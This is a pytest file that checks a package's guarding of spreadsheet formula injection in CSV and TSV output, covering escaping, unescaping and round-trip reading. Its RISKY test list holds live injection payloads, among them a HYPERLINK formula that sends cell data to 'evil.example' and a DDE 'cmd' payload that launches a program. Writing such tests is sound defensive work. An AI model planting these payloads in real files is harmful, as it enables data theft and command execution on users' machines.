"""Cells that a spreadsheet would run: marked in our lists, and read back as they were."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from selfpaced.cli.output import write_frame, write_rows
from selfpaced.tables import read_table, text_rows, written_cells
from selfpaced.tables.text import guarded, unguarded

RISKY = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1 555",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "-cmd|' /C calc'!A0",
    "'=1+1",
    "=\n1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1 555",
]
HARMLESS = ["'-", "''=", "=", "-1.5", "+3", "-1e-9", "-1,5", "-", "a=b", "", "'quoted'", "-inf", "plain"]


@pytest.mark.parametrize("cell", RISKY)
def test_what_a_spreadsheet_would_run_is_marked(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell
    assert unguarded(guarded(guarded(cell))) == guarded(cell)


@pytest.mark.parametrize("cell", HARMLESS)
def test_numbers_and_words_are_left_alone(cell: str) -> None:
    assert guarded(cell) == unguarded(cell) == cell


@pytest.mark.parametrize("name", ["t.csv", "t.tsv", "t.csv.gz"])
def test_a_list_comes_back_as_it_was(tmp_path: Path, name: str) -> None:
    texts = [*RISKY[:4], *RISKY[5:], "word", "'quoted'"]
    frame = pd.DataFrame({"=A1": texts, "n": range(len(texts)), "given": texts, "x": [-1.5, 2.0] * (len(texts) // 2)})
    write_frame(frame, tmp_path / name)
    found = written_cells(tmp_path / name)[0]
    assert found["given"].tolist() == texts
    assert found["x"].astype(float).tolist() == frame["x"].tolist()
    if not name.endswith(".gz"):
        with open(tmp_path / name, newline="", encoding="utf-8") as stream:
            cells = [
                cell for row in csv.reader(stream, delimiter="\t" if name.endswith("tsv") else ",") for cell in row
            ]
        assert not [cell for cell in cells if cell[:1] in tuple("=+@\n\uff1d\uff0b")]


def test_the_copy_of_a_table_keeps_its_cells(tmp_path: Path) -> None:
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    first.write_text("name,n\n=1+1,1\n'=quoted,2\n", encoding="utf-8")
    table = read_table(first)
    write_rows(text_rows(table), second, ",", table.dialect)
    assert second.read_text(encoding="utf-8") == first.read_text(encoding="utf-8")
    assert table.frame["name"].tolist() == ["=1+1", "'=quoted"]
